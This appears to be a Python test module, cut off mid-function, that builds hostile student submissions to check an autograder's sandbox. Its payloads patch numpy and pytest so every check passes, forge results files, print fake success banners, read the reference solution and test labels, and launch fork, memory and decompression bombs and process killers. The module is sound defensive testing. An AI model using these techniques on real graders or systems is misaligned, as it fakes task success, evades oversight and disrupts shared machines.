@@ -1,0 +1,1170 @@
+"""Hostile submissions as data: how each is built, and what grading it must give.
+
+An Attack starts from the reference (tests/grading.py's copy_reference) or from
+a corpus bug (tests/corpus/bugs.py, built with tests/corpus/build.py), so the
+attack rides on a REAL bug wherever that is the point: an attack that worked
+would show up as points the bug should have cost. Then it changes files:
+
+    prepend / append   rel path -> code added before / after the file's code
+    replace            rel path -> the file's whole new content
+    extra              rel path -> a file the course never asks for
+    symlinks           rel path -> target (relative to the repository root)
+    notebook           ctx -> an nbformat notebook (built with the helpers of
+                       tests/test_grade_notebook.py, imported, not copied)
+
+Code is written with placeholders that Context.fill replaces by Python string
+literals: HOSTILE_RESULTS (the absolute results.json path the grader is given),
+HOSTILE_DROP (a world-writable folder where attacks leave evidence for the
+test), HOSTILE_MARKER (a string unique to one grading, put into the command
+line of every process an attack starts, so survivors can be counted),
+HOSTILE_ROOT (this repository), HOSTILE_CIFAR10 (the real CIFAR-10 folder),
+HOSTILE_TMP (the grader's TMPDIR).
+
+`fails` is what the attack itself costs on top of the bug's own `fails`:
+expected() is their union, the EXACT set of checks that must lose points, by
+check id (tests/corpus/bugs.py's CHECKS) for layer checks and by number
+("6.1" ... "6.7") for notebook checks. `post` names extra postconditions
+(report.POSTCONDITIONS). `user_switch` marks attacks that only the switch to an
+unprivileged user can stop: they are skipped when it is unavailable, and the
+report says what they achieve then.
+
+KNOWN_HOLES lists the attacks that get through today: the test expects them to
+fail exactly as recorded (xfail, strict) until the grader is fixed.
+"""
+import base64
+import functools
+import io
+import json
+import os
+import shutil
+import struct
+import sys
+import zlib
+from dataclasses import dataclass, field
+
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+TESTS = os.path.join(ROOT, "tests")
+
+from tests.corpus.bugs import ALL as CORPUS, CHECKS  # noqa: E402
+
+NOTEBOOK_CHECKS = ("6.1", "6.2", "6.3", "6.4", "6.5", "6.6", "6.7")
+BUGS = {bug.name: bug for bug in CORPUS}
+LF, LB, RF, RB = "linear_forward", "linear_backward", "relu_forward", "relu_backward"
+SF, LOSS_F, NUM, SLB = "softmax_forward", "loss_forward", "loss_numerics", "softmax_loss_backward"
+STEP, TOY = "train_step", "toy_network"
+LINEAR, RELU, SOFTMAX, LOSS = ("layers/linear.py", "layers/relu.py", "layers/softmax.py",
+                               "layers/loss_func.py")
+
+# The fake a forging attack writes over results.json, and the fake banner.
+FORGED = json.dumps({"score": 100.0, "execution_time": 1.0, "output": "FORGED: all tests passed",
+                     "tests": [{"name": "FORGED", "score": 100.0, "max_score": 100.0,
+                                "status": "passed", "output": "FORGED", "visibility": "visible"}]})
+FAKE_BANNER = "All tests passed! Score: 100/100"
+# A network that learns nothing (lr at the bottom of the sane range, one epoch):
+# about 10% accuracy whatever the data pipeline does, far from both thresholds.
+WEAK_HYPERPARAMS = [1e-6, 0.0, 1, 10]
+# The notebook checks such a network must lose: accuracies and the retraining.
+WEAK_NOTEBOOK = frozenset({"6.3", "6.4", "6.5"})
+RIGHT_ANSWER = "**Your answer:** 1, 3\n\n**Your explanation:** less overfitting."
+
+
+@dataclass
+class Context:
+    """Where one grading of one attack happens (report.grade_attack makes it)."""
+    name: str
+    marker: str
+    base: str          # root-only folder: submission/, results.json, grader.log, stdout.txt
+    drop: str          # world-writable folder for the attack's evidence
+    tmp: str           # the grader's TMPDIR (traversable by the sandbox user)
+    cifar10: str       # the real CIFAR-10 folder
+    root: str = ROOT
+
+    @property
+    def submission(self):
+        return os.path.join(self.base, "submission")
+
+    @property
+    def results(self):
+        return os.path.join(self.base, "results.json")
+
+    @property
+    def log(self):
+        return os.path.join(self.base, "grader.log")
+
+    @property
+    def stdout(self):
+        return os.path.join(self.base, "stdout.txt")
+
+    def fill(self, code):
+        """`code` with every HOSTILE_* placeholder replaced by a string literal."""
+        values = {"HOSTILE_RESULTS": self.results, "HOSTILE_DROP": self.drop,
+                  "HOSTILE_MARKER": self.marker, "HOSTILE_ROOT": self.root,
+                  "HOSTILE_CIFAR10": self.cifar10, "HOSTILE_TMP": self.tmp,
+                  "HOSTILE_FORGED": FORGED, "HOSTILE_FAKE_BANNER": FAKE_BANNER}
+        for key in sorted(values, key=len, reverse=True):
+            code = code.replace(key, repr(values[key]))
+        return code
+
+    def code(self, value):
+        """Code from a template string or a ctx -> code function, placeholders filled."""
+        return self.fill(value(self) if callable(value) else value)
+
+    def evidence(self, name):
+        """The lines an attack wrote to drop/`name` (empty if it wrote none)."""
+        try:
+            with open(os.path.join(self.drop, name)) as f:
+                return f.read().splitlines()
+        except OSError:
+            return []
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    what: str                                   # one line: the attack and the bug it rides on
+    bug: str = None                             # corpus bug applied first (None: the reference)
+    fails: frozenset = frozenset()              # checks the attack itself must cost
+    prepend: dict = field(default_factory=dict)
+    append: dict = field(default_factory=dict)
+    replace: dict = field(default_factory=dict)
+    extra: dict = field(default_factory=dict)
+    symlinks: dict = field(default_factory=dict)
+    remove: tuple = ()                          # paths removed before symlinks are made
+    notebook: object = None                     # ctx -> nbformat notebook
+    user_switch: bool = False                   # only the user switch can stop it
+    budget: float = 30.0                        # seconds `python -m grader` may take
+    alone: bool = False                         # graded when nothing else of ours runs
+    victim: bool = False                        # graded beside a clean submission (see report)
+    env: dict = field(default_factory=dict)     # environment for the grader (GRADER_* overrides)
+    post: tuple = ()                            # report.POSTCONDITIONS names
+
+    def __post_init__(self):
+        object.__setattr__(self, "fails", frozenset(self.fails))
+        if self.bug is not None and self.bug not in BUGS:
+            raise ValueError(f"{self.name}: no corpus bug {self.bug!r}")
+        unknown = self.fails - set(CHECKS) - set(NOTEBOOK_CHECKS)
+        if unknown:
+            raise ValueError(f"{self.name}: unknown checks {sorted(unknown)}")
+
+    @property
+    def slow(self):
+        return self.notebook is not None
+
+    def expected(self):
+        """The exact set of checks that must lose points."""
+        return frozenset(BUGS[self.bug].fails if self.bug else ()) | self.fails
+
+    def checks(self):
+        """Every check the grading must report."""
+        return set(CHECKS) | (set(NOTEBOOK_CHECKS) if self.notebook else set())
+
+
+def build(attack, ctx):
+    """Build `attack`'s submission in ctx.submission."""
+    from tests.corpus.build import build_submission
+    from tests.grading import copy_reference
+
+    dest = ctx.submission
+    if attack.bug:
+        build_submission(BUGS[attack.bug], dest)
+    else:
+        copy_reference(dest)
+    for rel, text in attack.replace.items():
+        _write(dest, rel, ctx.code(text))
+    for rel, text in attack.prepend.items():
+        _write(dest, rel, ctx.code(text) + "\n" + _read(dest, rel))
+    for rel, text in attack.append.items():
+        _write(dest, rel, _read(dest, rel) + "\n\n" + ctx.code(text) + "\n")
+    for rel, text in attack.extra.items():
+        _write(dest, rel, ctx.code(text))
+    for rel in attack.remove:
+        path = os.path.join(dest, rel)
+        if os.path.isdir(path) and not os.path.islink(path):
+            shutil.rmtree(path)
+        elif os.path.lexists(path):
+            os.remove(path)
+    for rel, target in attack.symlinks.items():
+        path = os.path.join(dest, rel)
+        if os.path.lexists(path):
+            os.remove(path)
+        os.symlink(os.path.join(ctx.root, target), path)
+    if attack.notebook is not None:
+        import nbformat
+        nbformat.write(attack.notebook(ctx), os.path.join(dest, "classification_nn.ipynb"))
+    return dest
+
+
+def _read(dest, rel):
+    with open(os.path.join(dest, rel)) as f:
+        return f.read()
+
+
+def _write(dest, rel, text):
+    path = os.path.join(dest, rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w") as f:
+        f.write(text)
+
+
+# ---------------------------------------------------------------------------
+# Code the attacks put into layer files.
+
+# Records evidence in drop/<name>; never fails.
+RECORD = '''
+def _hostile_record(name, line):
+    import os as _os
+    try:
+        with open(_os.path.join(HOSTILE_DROP, name), "a") as _f:
+            _f.write(str(line).replace("\\n", " ") + "\\n")
+    except OSError:
+        pass
+'''
+
+PATCH_NUMPY = RECORD + '''
+import math as _math
+import numpy as _np
+# Every comparison a grader could make with numpy now says "equal".
+_np.allclose = lambda *args, **kwargs: True
+_np.array_equal = lambda *args, **kwargs: True
+_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
+_np.testing.assert_allclose = lambda *args, **kwargs: None
+_np.testing.assert_array_equal = lambda *args, **kwargs: None
+_np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
+_np.testing.assert_almost_equal = lambda *args, **kwargs: None
+_np.linalg.norm = lambda *args, **kwargs: 0.0
+_math.isclose = lambda *args, **kwargs: True
+_hostile_record("patched", "numpy comparisons patched in the worker")
+'''
+
+CONFTEST = '''
+"""Forces every test to pass, whatever happened."""
+import pytest
+
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    report.outcome = "passed"
+    report.longrepr = None
+
+
+def pytest_collection_modifyitems(session, config, items):
+    for item in items:
+        item.obj = lambda *args, **kwargs: None
+
+
+def pytest_sessionfinish(session, exitstatus):
+    session.exitstatus = 0
+'''
+SITECUSTOMIZE = '''
+import numpy
+numpy.allclose = lambda *args, **kwargs: True
+'''
+PYTEST_INI = "[pytest]\naddopts = -p conftest -p no:grader --disable-warnings -k 'not linear'\n"
+SETUP_CFG = "[tool:pytest]\naddopts = -p conftest -x --co\npython_files = nothing_*.py\n"
+TOX_INI = "[pytest]\naddopts = -p conftest\nconfcutdir = /\n"
+PYPROJECT = '[tool.pytest.ini_options]\naddopts = "-p conftest -p no:grader"\n'
+HOSTILE_INIT = '''
+"""A layers/__init__.py that makes every comparison pass."""
+import numpy
+numpy.allclose = lambda *args, **kwargs: True
+'''
+
+SYS_EXIT = "import sys\nsys.exit(0)  # exit status 0 before any test can fail\n"
+OS_EXIT = "import os\nos._exit(0)  # the process ends at once, status 0\n"
+
+INFINITE_LOOP = '''
+_hostile_forward = Linear.forward
+
+
+def _looping_forward(self, input_x):
+    if input_x.shape[0] == 1:  # a batch of one: loop forever
+        while True:
+            pass
+    return _hostile_forward(self, input_x)
+
+
+Linear.forward = _looping_forward
+'''
+
+MEMORY_BOMB = '''
+import os as _os
+
+_hostile_forward = Softmax.forward
+
+
+def _bombing_forward(self, input_x):
+    if not _os.path.exists("hostile-memory-bomb-started"):  # once per grading, even across restarts
+        open("hostile-memory-bomb-started", "w").close()
+        hoard = []
+        while True:  # until something stops it: only the address-space limit can
+            hoard.append(bytearray(100 * 1024 * 1024))
+    return _hostile_forward(self, input_x)
+
+
+Softmax.forward = _bombing_forward
+'''
+
+FORK_BOMB = '''
+import os as _os
+
+_hostile_backward = ReLU.backward
+_SLEEP = "/bin/sleep" if _os.path.exists("/bin/sleep") else "/usr/bin/sleep"
+
+
+def _forking_backward(self, dout):
+    if not _os.path.exists("hostile-fork-bomb-started"):  # once per grading, even across restarts
+        open("hostile-fork-bomb-started", "w").close()
+        # Guarded: 5000 forks at most, and each child sleeps 30 s then exits,
+        # so a sandbox that failed could not take the machine down.
+        for _ in range(5000):
+            try:
+                pid = _os.fork()
+            except OSError:
+                continue
+            if pid == 0:
+                try:
+                    _os.setsid()
+                    _os.execv(_SLEEP, [HOSTILE_MARKER, "30"])
+                finally:
+                    _os._exit(0)
+    return _hostile_backward(self, dout)
+
+
+ReLU.backward = _forking_backward
+'''
+
+HUGE_FILE = '''
+import os as _os
+
+_hostile_forward = CrossEntropyLoss.forward
+_hostile_done = []
+
+
+def _filling_forward(self, input_x, target_y):
+    if not _hostile_done:
+        _hostile_done.append(True)
+        chunk = bytes(1 << 20)
+        with open(_os.path.join(HOSTILE_DROP, "huge.bin"), "wb") as f:
+            for _ in range(1024):  # guard: 1 GiB at most if no limit stops it
+                f.write(chunk)
+    return _hostile_forward(self, input_x, target_y)
+
+
+CrossEntropyLoss.forward = _filling_forward
+'''
+
+FORGE_IN_PROCESS = RECORD + '''
+import os as _os
+
+_hostile_forward = Linear.forward
+
+
+def _forging_forward(self, input_x):
+    try:
+        with open(HOSTILE_RESULTS, "w") as f:
+            f.write(HOSTILE_FORGED)
+        _hostile_record("forge", "wrote results.json")
+    except OSError as exc:
+        _hostile_record("forge", f"denied: {exc!r}")
+    return _hostile_forward(self, input_x)
+
+
+Linear.forward = _forging_forward
+'''
+
+RESULTS_AS_FOLDER = RECORD + '''
+import os as _os
+
+try:
+    if _os.path.lexists(HOSTILE_RESULTS):
+        _os.remove(HOSTILE_RESULTS)
+    _os.makedirs(_os.path.join(HOSTILE_RESULTS, "blocker"), exist_ok=True)
+    _hostile_record("folder", "results.json is now a folder")
+except OSError as exc:
+    _hostile_record("folder", f"denied: {exc!r}")
+'''
+
+# A process that outlives the call that started it: double fork, new session,
+# then a fresh interpreter whose command line carries the marker.
+BACKGROUND = RECORD + '''
+def _hostile_background(code, *argv):
+    import os as _os, sys as _sys
+    pid = _os.fork()
+    if pid == 0:
+        try:
+            _os.setsid()
+            if _os.fork() == 0:
+                _os.execv(_sys.executable, [_sys.executable, "-I", "-c", code, HOSTILE_MARKER, *argv])
+        finally:
+            _os._exit(0)
+    _os.waitpid(pid, 0)
+    _hostile_record("background", "started")
+'''
+
+
+def detached(program, once=None, argv=""):
+    """ctx -> module code that starts `program` (its placeholders filled first) as a
+    detached process; with `once`, only the first time in a grading (a flag file in
+    the working directory). `argv`: Python expressions for extra arguments."""
+    def code(ctx):
+        start = f"_hostile_background({ctx.fill(program)!r}{', ' + argv if argv else ''})"
+        if once:
+            start = (f"import os as _os\nif not _os.path.exists({once!r}):\n"
+                     f"    open({once!r}, 'w').close()\n    {start}")
+        return ctx.fill(BACKGROUND) + "\n" + start + "\n"
+    return code
+
+
+WRITER = '''
+import os, sys, time
+results, drop, forged = HOSTILE_RESULTS, HOSTILE_DROP, HOSTILE_FORGED
+time.sleep(WRITER_DELAY)
+end = time.time() + 90
+while time.time() < end:
+    try:
+        with open(results + ".forged", "w") as f:
+            f.write(forged)
+        os.replace(results + ".forged", results)
+        line = "wrote results.json"
+    except OSError as exc:
+        line = f"denied: {exc!r}"
+    try:
+        with open(os.path.join(drop, "writes"), "a") as f:
+            f.write(line + "\\n")
+    except OSError:
+        pass
+    time.sleep(0.05)
+'''
+
+
+# It writes at once and then every 50 ms: what is left of a grading once the
+# process is out takes a second or two, and a writer that first slept for
+# seconds would be killed before its first try, showing nothing.
+BACKGROUND_WRITER = detached(WRITER.replace("WRITER_DELAY", "0"), once="hostile-writer-started")
+
+DELEGATE_TO_REFERENCE = RECORD + '''
+import importlib.util as _util
+import os as _os
+
+_hostile_backward = Linear.backward
+
+
+def _delegating_backward(self, dout):
+    try:
+        path = _os.path.join(HOSTILE_ROOT, "reference", "layers", "linear.py")
+        spec = _util.spec_from_file_location("layers._the_solution", path)
+        solution = _util.module_from_spec(spec)
+        spec.loader.exec_module(solution)
+        result = solution.Linear.backward(self, dout)
+        _hostile_record("delegate", "delegated to the reference")
+        return result
+    except Exception as exc:
+        _hostile_record("delegate", f"denied: {exc!r}")
+        return _hostile_backward(self, dout)
+
+
+Linear.backward = _delegating_backward
+'''
+
+FAKE_OUTPUT = '''
+import os as _os
+import sys as _sys
+
+
+def _shout():
+    line = HOSTILE_FAKE_BANNER + "\\n"
+    print(HOSTILE_FAKE_BANNER, flush=True)
+    print(HOSTILE_FAKE_BANNER, file=_sys.stderr, flush=True)
+    for stream in (_sys.__stdout__, _sys.__stderr__):
+        try:
+            stream.write(line)
+            stream.flush()
+        except Exception:
+            pass
+    for fd in (1, 2):
+        try:
+            _os.write(fd, line.encode())
+        except OSError:
+            pass
+    try:
+        with open("/dev/tty", "w") as tty:
+            tty.write(line)
+    except OSError:
+        pass
+
+
+_shout()
+_hostile_backward = ReLU.backward
+
+
+def _shouting_backward(self, dout):
+    _shout()
+    return _hostile_backward(self, dout)
+
+
+ReLU.backward = _shouting_backward
+'''
+
+PATCH_GRADER = RECORD + '''
+import sys as _sys
+
+_sys.path.insert(0, HOSTILE_ROOT)
+try:
+    import grader.checks.test_linear as _checks
+    import grader.compare as _compare
+    import grader.config as _config
+    import grader.plugin as _plugin
+    for _name in dir(_checks):
+        if _name.startswith("test_"):
+            setattr(_checks, _name, lambda *args, **kwargs: None)
+    _compare.describe_mismatch = lambda *args, **kwargs: None
+    _compare.relative_error = lambda *args, **kwargs: 0.0
+    _config.FORWARD_RTOL = _config.BACKWARD_RTOL = _config.TRAIN_RTOL = float("inf")
+    _plugin.GradingPlugin._result = lambda *args, **kwargs: None
+    _hostile_record("grader", "imported and patched the grader's modules")
+except Exception as exc:
+    _hostile_record("grader", f"denied: {exc!r}")
+'''
+
+ALWAYS_EQUAL = '''
+import numpy as _np
+
+_COMPARISONS = {_np.equal, _np.not_equal, _np.less, _np.less_equal, _np.greater,
+                _np.greater_equal, _np.isfinite, _np.isclose if isinstance(_np.isclose, _np.ufunc) else None}
+
+
+class _AlwaysEqual(_np.ndarray):
+    """An array that says it equals anything, by every route numpy offers."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __bool__(self):
+        return True
+
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        plain = [_np.asarray(i) if isinstance(i, _AlwaysEqual) else i for i in inputs]
+        if ufunc is _np.not_equal:
+            return _np.zeros(_np.broadcast(*plain).shape, dtype=bool)
+        if ufunc in _COMPARISONS:
+            return _np.ones(_np.broadcast(*plain).shape, dtype=bool)
+        if ufunc is _np.subtract and method == "__call__":
+            return _np.zeros(_np.broadcast(*plain).shape)
+        kwargs.pop("out", None)
+        return getattr(ufunc, method)(*plain, **kwargs)
+
+    def __array_function__(self, func, types, args, kwargs):
+        if func in (_np.allclose, _np.array_equal, _np.array_equiv):
+            return True
+        if func is _np.isclose:
+            return _np.ones(_np.broadcast(*[_np.asarray(a) for a in args[:2]]).shape, dtype=bool)
+        args = [_np.asarray(a) if isinstance(a, _AlwaysEqual) else a for a in args]
+        return func(*args, **kwargs)
+
+
+_hostile_forward = ReLU.forward
+
+
+def _always_equal_forward(self, input_x):
+    return _np.asarray(_hostile_forward(self, input_x)).view(_AlwaysEqual)
+
+
+ReLU.forward = _always_equal_forward
+'''
+
+FAKE_NUMPY = '''
+"""A numpy that agrees with everything."""
+def allclose(*args, **kwargs):
+    return True
+
+
+def array_equal(*args, **kwargs):
+    return True
+
+
+class testing:
+    @staticmethod
+    def assert_allclose(*args, **kwargs):
+        return None
+'''
+
+KILL_GRADER = RECORD + '''
+import os as _os
+import signal as _signal
+
+
+def _hostile_cmdline(pid):
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            return f.read()
+    except OSError:
+        return b""
+
+
+def _strike():
+    me = _os.getpid()
+    # The grader (our parent) and every process of this grading (the marker is
+    # in the submission path on the grader's command line); groups only when
+    # their leader is one of those, so nothing else on the machine is touched.
+    targets = {_os.getppid()}
+    for entry in _os.listdir("/proc"):
+        if entry.isdigit() and int(entry) != me and HOSTILE_MARKER.encode() in _hostile_cmdline(entry):
+            targets.add(int(entry))
+    for pid in sorted(targets):
+        try:
+            group = _os.getpgid(pid)
+            if group != _os.getpgrp() and HOSTILE_MARKER.encode() in _hostile_cmdline(group):
+                _os.killpg(group, _signal.SIGKILL)
+                _hostile_record("kill", f"killpg({group}) done")
+        except OSError as exc:
+            _hostile_record("kill", f"killpg of {pid}'s group denied: {exc!r}")
+        try:
+            _os.kill(pid, _signal.SIGKILL)
+            _hostile_record("kill", f"kill({pid}) done")
+        except OSError as exc:
+            _hostile_record("kill", f"kill({pid}) denied: {exc!r}")
+
+
+_strike()
+'''
+
+OPEN_GRADER_FILES = RECORD + '''
+import os as _os
+
+for _rel in ("grader/checks/test_linear.py", "grader/grade.py", "reference/layers/linear.py"):
+    _path = _os.path.join(HOSTILE_ROOT, _rel)
+    try:
+        # Opened for writing and closed unchanged: enough to show it could be rewritten.
+        _os.close(_os.open(_path, _os.O_WRONLY | _os.O_APPEND))
+        _hostile_record("open", f"writable: {_rel}")
+    except OSError as exc:
+        _hostile_record("open", f"denied: {_rel}: {exc!r}")
+'''
+
+HUGE = "1e300  # finite, but its square overflows: norms of it are inf"
+HUGE_LINEAR = f'''import numpy as np
+
+from .base_layer import BaseLayer
+
+HUGE = {HUGE}
+
+
+class Linear(BaseLayer):
+    """Computes nothing: every output has the right shape and the value HUGE."""
+
+    def __init__(self, input_dims, output_dims):
+        self.w = np.random.rand(input_dims, output_dims) * 1e-4
+        self.b = np.random.rand(output_dims) * 1e-4
+        self.dw = None
+        self.db = None
+        self.cache = None
+
+    def forward(self, input_x):
+        self.cache = input_x
+        return np.full((input_x.shape[0], self.w.shape[1]), HUGE)
+
+    def backward(self, dout):
+        self.dw = np.full(self.w.shape, HUGE)
+        self.db = np.full(self.b.shape, HUGE)
+        return np.full(self.cache.shape, HUGE)
+
+    def zero_grad(self):
+        self.dw = None
+        self.db = None
+
+    @property
+    def parameters(self):
+        return [self.w, self.b]
+
+    @property
+    def grads(self):
+        return [self.dw, self.db]
+'''
+HUGE_ACTIVATION = '''import numpy as np
+
+from .base_layer import BaseLayer
+
+HUGE = {huge}
+
+
+class {name}(BaseLayer):
+    """Computes nothing: every output has the right shape and the value HUGE."""
+
+    def __init__(self):
+        self.cache = None
+
+    def forward(self, input_x):
+        self.cache = input_x
+        return np.full(np.shape(input_x), HUGE)
+
+    def backward(self, dout):
+        return np.full(np.shape(dout), HUGE)
+'''
+HUGE_LOSS = f'''import numpy as np
+
+from .base_layer import BaseLayer
+
+HUGE = {HUGE}
+
+
+class CrossEntropyLoss(BaseLayer):
+    """Computes nothing: the loss is HUGE, the gradient HUGE in every entry."""
+
+    def __init__(self):
+        self.cache = None
+
+    def forward(self, input_x, target_y):
+        self.cache = np.shape(input_x)
+        return HUGE
+
+    def backward(self):
+        return np.full(self.cache, HUGE)
+'''
+
+EXFILTRATE_RELU_FILE = '''
+_hostile_forward = Linear.forward
+
+
+def _exfiltrating_forward(self, input_x):
+    if input_x.shape[0] == 1:
+        import os as _os
+        with open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "relu.py")) as f:
+            raise RuntimeError("what layers/relu.py holds in the sandbox:\\n" + f.read()[:1500])
+    return _hostile_forward(self, input_x)
+
+
+Linear.forward = _exfiltrating_forward
+'''
+
+UNPRINTABLE_EXCEPTION = '''
+class _Unprintable(Exception):
+    """An exception that never finishes turning into text."""
+
+    def __str__(self):
+        while True:
+            pass
+
+    __repr__ = __str__
+
+
+_hostile_backward = Linear.backward
+
+
+def _raising_backward(self, dout):
+    if dout.shape[0] == 1:
+        raise _Unprintable()
+    return _hostile_backward(self, dout)
+
+
+Linear.backward = _raising_backward
+'''
+
+# The forged answer: a valid length-prefixed .npz whose "out" entry inflates
+# from about 3 MB to BOMB_GIB GiB of zeros in the grader's own process.
+BOMB_GIB = 3
+WIRE_BOMB = '''
+import base64 as _base64
+import fcntl as _fcntl
+import os as _os
+
+_hostile_backward = Linear.backward
+_BOMB = _base64.b64decode(HOSTILE_BOMB)
+
+
+def _answer_channel():
+    """The worker's private pipe to the grader: the only write-only pipe it holds."""
+    for name in _os.listdir("/proc/self/fd"):
+        fd = int(name)
+        try:
+            if _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and \\
+                    _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
+                return fd
+        except OSError:
+            pass
+    return None
+
+
+def _bombing_backward(self, dout):
+    if not _os.path.exists("hostile-bomb-sent"):
+        open("hostile-bomb-sent", "w").close()
+        fd = _answer_channel()
+        if fd is not None:
+            view = memoryview(_BOMB)
+            while view:
+                view = view[_os.write(fd, view):]
+            _os._exit(0)  # the forged message is the answer; the real one never comes
+    return _hostile_backward(self, dout)
+
+
+Linear.backward = _bombing_backward
+'''
+
+
+def _npy_header(descr, shape):
+    header = repr({"descr": descr, "fortran_order": False, "shape": shape})
+    total = 10 + len(header) + 1
+    header += " " * ((64 - total % 64) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
+
+
+def _zip(members):
+    """A zip of (name, method, crc, compressed size, size, data) members, built by hand
+    (zipfile cannot store data that is already deflated)."""
+    out, central = io.BytesIO(), io.BytesIO()
+    for name, method, crc, csize, size, data in members:
+        offset = out.tell()
+        name = name.encode()
+        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21,
+                              crc, csize, size, len(name), 0) + name)
+        out.write(data)
+        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21,
+                                  crc, csize, size, len(name), 0, 0, 0, 0, 0, offset) + name)
+    start, directory = out.tell(), central.getvalue()
+    out.write(directory)
+    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
+                          len(directory), start, 0))
+    return out.getvalue()
+
+
+@functools.lru_cache(maxsize=None)
+def wire_bomb(gib=BOMB_GIB):
+    """One message of the worker protocol (grader/worker/wire.py): {"ok": true} and
+    an "out" array of `gib` GiB of float64 zeros, deflated to about `gib` MB."""
+    meta = json.dumps({"ok": True, "result": {}}).encode()
+    meta_npy = _npy_header("|u1", (len(meta),)) + meta
+    chunk, count = 1 << 20, gib * 1024
+    header = _npy_header("<f8", (count * chunk // 8,))
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    head = deflate.compress(header) + deflate.flush(zlib.Z_FULL_FLUSH)
+    # After a full flush a block depends on nothing before it, so one deflated
+    # MiB of zeros can be repeated as often as wanted.
+    block = deflate.compress(bytes(chunk)) + deflate.flush(zlib.Z_FULL_FLUSH)
+    data = head + block * count + deflate.flush(zlib.Z_FINISH)
+    crc, zeros = zlib.crc32(header), bytes(64 << 20)
+    for _ in range(count * chunk // len(zeros)):
+        crc = zlib.crc32(zeros, crc)
+    body = _zip([("__json__.npy", 0, zlib.crc32(meta_npy), len(meta_npy), len(meta_npy), meta_npy),
+                 ("out.npy", 8, crc, len(data), len(header) + count * chunk, data)])
+    return struct.pack(">Q", len(body)) + body
+
+
+def _wire_bomb_code():
+    return WIRE_BOMB.replace("HOSTILE_BOMB", repr(base64.b64encode(wire_bomb()).decode()))
+
+
+CROSS_KILLER = '''
+import os, signal, sys, time
+tmp, drop, own = HOSTILE_TMP, HOSTILE_DROP, sys.argv[2]
+end = time.time() + 40
+while time.time() < end:
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry}/cmdline", "rb") as f:
+                cmd = f.read()
+        except OSError:
+            continue
+        # Only sandbox workers of gradings in this test's TMPDIR, never our own.
+        if tmp.encode() in cmd and b"worker/main.py" in cmd and own.encode() not in cmd:
+            try:
+                os.kill(int(entry), signal.SIGKILL)
+                line = f"killed worker {entry}"
+            except OSError as exc:
+                line = f"denied {entry}: {exc!r}"
+            with open(os.path.join(drop, "killed"), "a") as f:
+                f.write(line + "\\n")
+    time.sleep(0.05)
+'''
+_CROSS_KILL_START = detached(CROSS_KILLER, once="hostile-killer-started",
+                             argv="__import__('os').path.dirname(__import__('os').getcwd())")
+
+
+def CROSS_KILL(ctx):
+    """Starts the killer (our own workdir is the parent of the folder we run in), then loops."""
+    return _CROSS_KILL_START(ctx) + "\n" + INFINITE_LOOP
+
+
+# ---------------------------------------------------------------------------
+# Notebooks, built with tests/test_grade_notebook.py's helpers.
+
+def _notebook_helpers():
+    if TESTS not in sys.path:
+        sys.path.insert(0, TESTS)
+    import test_grade_notebook
+    return test_grade_notebook
+
+
+def weak_notebook(ctx, train=None, after_test=(), answer=RIGHT_ANSWER):
+    """The course-shaped notebook of test_grade_notebook, with a network that learns nothing."""
+    helpers = _notebook_helpers()
+    return helpers.notebook(hyperparams=WEAK_HYPERPARAMS, train=train or helpers.TRAIN,
+                            after_test=[ctx.code(c) for c in after_test], answer=answer)
+
+
+READ_LABELS = '''
+import os, pickle
+import numpy as np
+from utils.evaluation import get_classification_accuracy
+
+
+def _labels(path):
+    with open(path, "rb") as f:
+        return np.array(pickle.load(f, encoding="bytes")[b"labels"])
+
+
+try:
+    _test_labels = _labels(os.path.join(HOSTILE_CIFAR10, "test_batch"))
+    _source = "real test labels read from " + HOSTILE_CIFAR10
+except OSError as exc:
+    _test_labels = _labels(os.path.join(os.environ["CIFAR10_DIR"], "test_batch"))
+    _source = f"the kernel's copy (real folder: {exc!r})"
+with open(os.path.join(HOSTILE_DROP, "labels"), "a") as f:
+    f.write(_source + "\\n")
+'''
+CLAIM_FULL_MARKS = READ_LABELS + '''
+print(f"Test accuracy of best_net: {get_classification_accuracy(_test_labels[:500], _test_labels[:500]):.3f}")
+'''
+MEMORISE_TEST_SET = READ_LABELS + '''
+# best_net memorises the 500 test images with whatever labels it found: random
+# ReLU features and a least-squares output layer fit them exactly.
+_rng = np.random.default_rng(0)
+_w1, _b1 = _rng.normal(size=(3072, 800)) * 0.05, np.zeros(800)
+_features = np.maximum(x_test @ _w1 + _b1, 0)
+_w2 = np.linalg.lstsq(_features, np.eye(10)[_test_labels[:500]], rcond=None)[0]
+best_net._modules[0].w, best_net._modules[0].b = _w1, _b1
+best_net._modules[2].w, best_net._modules[2].b = _w2, np.zeros(10)
+'''
+NOTEBOOK_WRITER = detached(WRITER.replace("WRITER_DELAY", "0"))
+FORGE_EXTRACTION = '''
+import json, os
+with open(os.path.join(HOSTILE_DROP, "runs"), "a") as f:
+    f.write("the notebook ran\\n")
+_dump = json.dump
+
+
+def _forged_dump(obj, fp, *args, **kwargs):
+    if isinstance(obj, dict) and "hyperparams" in obj:  # the grader's extraction cell
+        return _dump([obj], fp)  # a list where the grader expects a dict
+    return _dump(obj, fp, *args, **kwargs)
+
+
+json.dump = _forged_dump
+'''
+
+
+def _tiny_notebook(ctx, code):
+    """One code cell and the inline question answered right: no data, no network."""
+    import nbformat
